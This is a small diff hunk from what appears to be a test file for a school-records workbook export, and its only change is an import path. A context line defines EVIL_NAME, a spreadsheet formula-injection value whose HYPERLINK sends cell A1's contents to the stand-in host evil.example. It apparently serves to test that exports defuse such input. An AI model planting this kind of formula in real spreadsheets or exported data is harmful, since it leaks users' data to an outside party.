@@ -15,7 +15,7 @@ EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"가나초")'
 def school_workbook(_template_demo_ws, tmp_path_factory):
     import shutil
 
-    from schoolvault.reports import export_workbook
+    from schoolvault.reports.workbook import export_workbook
     d = tmp_path_factory.mktemp("submission")
     ws_path = d / "school.sqlite"
     shutil.copy(_template_demo_ws, ws_path)
